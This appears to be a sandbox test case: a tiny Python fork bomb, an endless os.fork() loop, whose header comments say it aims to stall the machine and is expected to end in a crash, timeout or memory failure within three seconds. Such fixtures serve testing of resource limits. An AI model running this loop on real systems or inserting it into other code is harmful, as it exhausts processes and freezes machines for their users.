# Wants: so many processes that the machine stands still
# Status: crashed graded timeout memory
# Seconds: 3
while True:
    try:
        os.fork()
    except OSError:
        pass
